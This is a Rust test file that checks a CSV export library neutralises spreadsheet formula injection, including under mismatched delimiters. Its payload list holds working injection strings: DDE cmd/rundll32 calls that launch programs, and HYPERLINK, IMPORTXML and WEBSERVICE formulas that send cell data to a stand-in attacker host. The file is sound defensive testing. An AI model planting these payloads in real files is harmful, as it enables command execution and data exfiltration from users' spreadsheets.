//! No cell of an export is run as a formula, and no number is taken for one.

mod support;

use reports::csv::{COLUMNS, CsvRow, Delimiter, Dialect};
use support::{dialect, read, row, write};

const STARTS: [&str; 13] =
    ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠", "\u{2212}"];

const BEFORE: [&str; 8] = ["", " ", "   ", "\u{a0}", "\u{3000}", "\u{200b}", "\u{feff}", "\u{b}"];

const PAYLOADS: [&str; 12] = [
    "1+1",
    "cmd|' /C calc'!A0",
    "HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
    "IMPORTXML(CONCAT(\"https://evil.example/?\",A1),\"//a\")",
    "WEBSERVICE(\"https://evil.example/\"&B2)",
    "SUM(1+9)*cmd|' /C calc'!A0",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
    "2+5+cmd|' /C notepad'!'A1'",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    "INDIRECT(\"A1\")",
    "A1:A9",
    "\"\"",
];

/// What a program finds in a cell: a formula, where the text begins like one after blanks.
fn runs(cell: &str) -> bool {
    let blank =
        |c: char| c.is_whitespace() || c.is_control() || matches!(c, '\u{200b}' | '\u{feff}' | '"');
    let found = cell.trim_start_matches(blank).chars().next();
    found.is_some_and(|c| STARTS.iter().any(|start| start.starts_with(c)))
}

fn corpus() -> Vec<String> {
    let mut all = Vec::new();
    for start in STARTS {
        for before in BEFORE {
            all.extend(PAYLOADS.map(|payload| format!("{before}{start}{payload}")));
        }
    }
    all
}

#[test]
fn a_text_that_begins_like_a_formula_is_text() {
    let corpus = corpus();
    assert!(corpus.len() > 1_000);
    for text in &corpus {
        let row = CsvRow { customer_name: text, order_id: text, raw_status: text, ..row() };
        let records = read(&write(dialect(), &[row]), b',');
        for cell in &records[1] {
            let number = cell.parse::<f64>().is_ok();
            assert!(number || !runs(cell), "{text:?} is run as {cell:?}");
        }
        let found = &records[1][COLUMNS.iter().position(|c| c.name == "order_id").unwrap()];
        assert_eq!(*found, format!("'{text}"), "the text itself is kept");
    }
}

/// Excel splits at the delimiter of the computer's language, whatever the file uses; a naive
/// program does not know quotes.
#[test]
fn a_program_that_splits_elsewhere_finds_no_formula_either() {
    for (ours, theirs) in
        [(Delimiter::Comma, ';'), (Delimiter::Semicolon, ','), (Delimiter::Comma, '\t')]
    {
        for text in corpus().iter().filter(|text| !text.contains(['\r', '\n', '\0', '\t'])) {
            for text in [format!("x{theirs}{text}"), format!("x\"{theirs}\"{text}")] {
                let row = CsvRow { customer_name: &text, ..row() };
                let bytes = write(Dialect { delimiter: ours, ..dialect() }, &[row]);
                let file = String::from_utf8(bytes).unwrap();
                let line = file.lines().nth(1).unwrap();
                for cell in line.split(theirs) {
                    assert!(!runs(cell), "{text:?} is run as {cell:?}");
                }
            }
        }
    }
}

#[test]
fn numbers_times_and_plain_text_stay_as_they_are() {
    let row =
        CsvRow { amount_minor: -500, created_ms: -1, customer_name: "Jean-Luc + Co.", ..row() };
    let text = String::from_utf8(write(dialect(), &[row])).unwrap();
    assert!(text.contains(",-5.00,IDR,-500,"), "{text}");
    assert!(!text.contains('\''), "{text}");
}
